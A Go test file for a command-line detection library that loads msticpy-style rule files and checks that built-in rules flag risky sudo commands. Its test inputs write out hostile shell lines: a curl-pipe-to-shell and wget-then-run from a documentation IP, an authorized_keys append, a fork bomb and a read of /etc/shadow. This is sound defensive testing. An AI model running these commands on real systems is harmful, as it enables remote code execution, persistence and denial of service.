package cmdline_test

import (
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/cmdline"
	"github.com/tuxtrail/tuxtrail/internal/sharedtest"
)

// column reads one column of a CSV file.
func column(t *testing.T, path, name string) []string {
	t.Helper()
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff"))).ReadAll()
	require.NoError(t, err)
	col := -1
	for i, h := range rows[0] {
		if h == name {
			col = i
		}
	}
	require.GreaterOrEqual(t, col, 0)
	var out []string
	for _, r := range rows[1:] {
		if r[col] != "" {
			out = append(out, r[col])
		}
	}
	return out
}

// TestMsticpyRules loads a rule file of msticpy and finds in its data what it
// finds: patterns match from the start of the text.
func TestMsticpyRules(t *testing.T) {
	dir := sharedtest.Dir(t, "corpus/msticpy")
	f, err := os.Open(filepath.Join(dir, "risky_stuff_custom.json"))
	require.NoError(t, err)
	defer f.Close()
	rules, err := cmdline.LoadRules("risky_stuff_custom.json", f)
	require.NoError(t, err)
	require.Equal(t, 3, rules.Len())
	got := map[string]int{}
	for _, c := range column(t, filepath.Join(dir, "sudo_data.csv"), "Command") {
		for _, h := range rules.Match(cmdline.FromSudo(c)) {
			assert.Equal(t, -1, h.Call)
			assert.NotEmpty(t, h.Evidence)
			got[h.Rule+" "+c]++
		}
	}
	assert.Equal(t, map[string]int{
		"Syslog-1 /usr/sbin/squid":                 1,
		"Syslog-2 /usr/bin/apt-get install auditd": 1,
		"Syslog-2 /usr/bin/apt-get update":         1,
		"Syslog-2 /usr/bin/apt-get upgrade -y":     1,
	}, got)
	assert.Zero(t, rules.Filter(func(r *cmdline.Rule) bool { return r.LogType == "Other" }).Len())
}

// TestMsticpyFinds asks that our own rules find at least what msticpy's five
// find: keys, download and run, fork bombs, moves to nowhere and root shells.
func TestMsticpyFinds(t *testing.T) {
	for text, rule := range map[string]string{
		"echo x >> /root/.ssh/authorized_keys": "authorized-keys",
		"wget http://192.0.2.1/a.sh; sh a.sh":  "download-then-run",
		"curl http://192.0.2.1/a.sh | sh":      "pipe-to-shell",
		":(){ :|: & };:":                       "fork-bomb",
		"mv /etc/important /dev/null":          "move-to-null",
		"/bin/bash":                            "root-shell",
	} {
		assert.Contains(t, ids(cmdline.DefaultRules().Match(cmdline.Parse(text))), rule, text)
	}
	dir := sharedtest.Dir(t, "corpus/msticpy")
	names, err := filepath.Glob(filepath.Join(dir, "sudo_*.csv"))
	require.NoError(t, err)
	require.NotEmpty(t, names)
	shells := 0
	for _, n := range names {
		for _, c := range column(t, n, "Command") {
			hits := cmdline.DefaultRules().Match(cmdline.FromSudo(c))
			top, id := worst(hits)
			assert.LessOrEqual(t, top, cmdline.Low, "%s: %s", id, c)
			if c == "/bin/bash" {
				shells++
				assert.Contains(t, ids(hits), "root-shell")
			}
		}
	}
	assert.Positive(t, shells)
}

func TestLoadRulesErrors(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"empty", "", `f: no "rules" in the file`},
		{"not a mapping", "- a\n", `f:1: the file must be a mapping with "rules"`},
		{"unknown key at the top", "rules: []\nruels: []\n", `f:2: unknown key "ruels"`},
		{"unknown key in a rule", "rules:\n  - id: a\n    severity: low\n    wen: []\n", `f:4: rule a: unknown field "wen"`},
		{"unknown key in a condition", "rules:\n  - id: a\n    severity: low\n    when:\n      - programm: [x]\n", `f:5: rule a: unknown field "programm"`},
		{"no id", "rules:\n  - severity: low\n    when: [{program: [x]}]\n", "f:2: a rule needs an id"},
		{"same id", "rules:\n  - {id: a, severity: low, when: [{program: [x]}]}\n  - {id: a, severity: low, when: [{program: [x]}]}\n", "f:3: rule a: the id is used twice"},
		{"no when", "rules:\n  - id: a\n    severity: low\n", `f:2: rule a: a rule needs "when"`},
		{"severity", "rules:\n  - id: a\n    severity: huge\n    when: [{program: [x]}]\n", `f:2: rule a: severity "huge" is none of info, low, medium, high, critical`},
		{"technique", "rules:\n  - {id: a, severity: low, techniques: [1059], when: [{program: [x]}]}\n", `"1059" is no ATT&CK technique id`},
		{"target", "rules:\n  - {id: a, severity: low, target: [files], when: [{program: [x]}]}\n", `target "files" is no kind of fact`},
		{"regex", "rules:\n\n  - id: a\n    severity: low\n    when: [{text: '('}]\n", "f:3: rule a: when: error parsing regexp"},
		{"pattern", "rules:\n  - {id: a, severity: low, when: [{args: ['re:[']}]}\n", "f:2: rule a: when: error parsing regexp"},
		{"list", "rules:\n  - {id: a, severity: low, when: [{program: [<nolist>]}]}\n", "there is no list <nolist>"},
		{"yaml", "rules:\n  - id: a\n   severity: low\n", "f:3:"},
		{"patterns: regex", "{\n \"Syslog\": [\n  \"ok\",\n  \"(?=x)\"\n ]\n}", `f:4: "Syslog": error parsing regexp`},
		{"patterns: not a list", "{\n \"Syslog\": \"x\"}", `f:2: "Syslog" must be a list of regular expressions`},
		{"patterns: not a text", "{\n \"Syslog\": [\n1]}", `f:3: "Syslog" must hold only texts`},
		{"patterns: syntax", "{\n \"Syslog\": [\"a\"\n", "f:2: EOF"},
		{"patterns: none", "{}", "f:1: no rules in the file"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := cmdline.LoadRules("f", strings.NewReader(tc.in))
			require.Error(t, err)
			assert.Nil(t, r)
			var re *cmdline.RuleError
			require.ErrorAs(t, err, &re)
			assert.Contains(t, err.Error(), tc.want)
		})
	}
	_, err := cmdline.LoadRules("f", strings.NewReader(strings.Repeat("#", cmdline.MaxRuleFile+1)))
	assert.ErrorIs(t, err, cmdline.ErrRuleFileTooLong)
}

func TestOwnRules(t *testing.T) {
	for name, in := range map[string]string{
		"yaml": "lists:\n  mine: [frobnicate, 'frob-*']\nrules:\n  - id: own\n    name: Frob\n    techniques: [T1059]\n    tactic: execution\n    severity: medium\n    when:\n      - program: [<mine>]\n        write: [<temp>]\n    target: [write]\n",
		"json": `{"lists": {"mine": ["frobnicate", "frob-*"]}, "rules": [{"id": "own", "severity": "medium", "when": [{"program": ["<mine>"], "write": ["<temp>"]}], "target": ["write"]}]}`,
	} {
		t.Run(name, func(t *testing.T) {
			own, err := cmdline.LoadRules("own", strings.NewReader(in))
			require.NoError(t, err)
			all := cmdline.DefaultRules().With(own)
			assert.Equal(t, cmdline.DefaultRules().Len()+1, all.Len())
			hits := all.Match(cmdline.Parse("frob-x > /tmp/o; frobnicate > /srv/o; cat /etc/shadow"))
			assert.Equal(t, []string{"own", "shadow-read"}, ids(hits))
			assert.Equal(t, "/tmp/o", hits[0].Target)
			assert.Equal(t, cmdline.FactWrite, hits[0].TargetKind)
			assert.Equal(t, cmdline.Medium, hits[0].Severity)
		})
	}
	quieter, err := cmdline.LoadRules("own", strings.NewReader("rules:\n  - {id: shadow-read, severity: info, when: [{program: [never]}]}\n"))
	require.NoError(t, err)
	all := cmdline.DefaultRules().With(quieter)
	assert.Equal(t, cmdline.DefaultRules().Len(), all.Len(), "the same id takes its place")
	assert.Empty(t, all.Match(cmdline.Parse("cat /etc/shadow")))
}
